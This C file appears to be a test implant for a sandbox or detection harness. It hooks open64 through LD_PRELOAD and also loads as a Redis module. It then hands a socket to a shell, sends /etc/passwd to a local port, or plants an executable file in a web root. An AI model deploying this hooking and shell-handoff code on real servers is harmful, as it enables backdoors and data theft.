// SPDX-License-Identifier: Apache-2.0
/*
 * Foreign code in a program: preloaded it waits until the program opens a file "pull-shell", "pull-send" or
 * "pull-write"; as a module of redis it acts when it is loaded. It connects to an intruder's port and hands
 * that to a shell, sends a file there, or writes one where web pages are.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* guest.sh has them, too. */
#define PORT_NGINX 9999
#define PORT_REDIS 9998

static int reach(uint16_t port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ? -1 : fd;
}

static void run_shell(uint16_t port)
{
	int fd = reach(port);
	pid_t child = fork();

	if (child == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", "-c", "id", (char *)NULL);
		_exit(1);
	}
	waitpid(child, NULL, 0);
	close(fd);
}

static void send_file(void)
{
	char buffer[4096];
	int fd = reach(PORT_NGINX), file = open("/etc/passwd", O_RDONLY);
	ssize_t size = read(file, buffer, sizeof(buffer));

	if (size > 0)
		(void)!write(fd, buffer, (size_t)size);
	close(file);
	close(fd);
}

static void write_file(void)
{
	static const char page[] = "a door";
	int file = open("/srv/www/up/door", O_WRONLY | O_CREAT | O_TRUNC, 0755);

	(void)!write(file, page, sizeof(page));
	close(file);
}

static void pull(const char *path)
{
	if (strstr(path, "pull-shell"))
		run_shell(PORT_NGINX);
	else if (strstr(path, "pull-send"))
		send_file();
	else if (strstr(path, "pull-write"))
		write_file();
}

int open64(const char *path, int flags, ...)
{
	int (*next)(const char *, int, int) = (int (*)(const char *, int, int))dlsym(RTLD_NEXT, "open64");
	__builtin_va_list rest;
	int mode;

	__builtin_va_start(rest, flags);
	mode = __builtin_va_arg(rest, int);
	__builtin_va_end(rest);
	pull(path);
	return next(path, flags, mode);
}

int RedisModule_OnLoad(void *context, void **arguments, int count)
{
	(void)context;
	(void)arguments;
	(void)count;
	run_shell(PORT_REDIS);
	return 1;
}
